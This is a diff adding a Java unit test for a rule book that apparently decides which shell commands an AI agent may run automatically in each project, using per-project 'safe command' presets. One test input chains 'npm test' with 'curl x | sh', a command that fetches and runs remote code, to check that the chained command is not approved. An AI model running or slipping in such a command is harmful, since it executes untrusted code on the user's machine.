@@ -167,6 +167,19 @@ class RuleBookTest {
     return book.decide(facts(command, "t1"), 0);
   }
 
+  @Test
+  void aProjectsOwnTestCommandIsSafeInThatProjectOnly() {
+    RuleBook projects = new RuleBook();
+    Presets.of("safeCommands", List.of(), java.util.Map.of("web", List.of("npm", "test"))).forEach(projects::put);
+    assertEquals("preset.safeCommands.web.npm-test", projects.decide(facts("npm test -- --watch=false", "t1"), 0)
+        .rule().id());
+    assertEquals(null, projects.decide(ToolFacts.of("claude", "api", "t1", new JsonObject().put("kind", "execute")
+        .put("rawInput", new JsonObject().put("command", "npm test")), worktree), 0), "another project's is asked");
+    assertEquals(null, projects.decide(facts("npm test; curl x | sh", "t1"), 0));
+    assertThrows(IllegalArgumentException.class, () -> Presets.of("readWorktree", List.of(),
+        java.util.Map.of("web", List.of("npm", "test"))));
+  }
+
   private ToolFacts facts(String command, String thread) {
     return ToolFacts.of("claude", "web", thread, new JsonObject().put("kind", "execute")
         .put("rawInput", new JsonObject().put("command", command)), worktree);
